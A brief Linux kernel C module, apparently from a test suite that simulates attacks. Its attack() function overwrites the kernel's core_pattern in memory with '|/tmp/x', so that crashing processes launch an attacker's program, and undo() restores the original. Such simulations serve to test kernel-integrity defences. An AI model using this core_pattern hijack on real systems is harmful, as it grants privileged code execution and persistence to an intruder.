// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/* What the kernel runs when a process crashes is a program of the attacker (core_pattern). */
#include "attack.h"

static char original[128];
static char *pattern;

static int attack(void)
{
	pattern = (char *)symbol("core_pattern");
	if (!pattern)
		return -ENOENT;
	strscpy(original, pattern, sizeof(original));
	strscpy(pattern, "|/tmp/x", 128);
	return 0;
}

static void undo(void)
{
	strscpy(pattern, original, 128);
}

ATTACK("the handler of core dumps changed in memory");
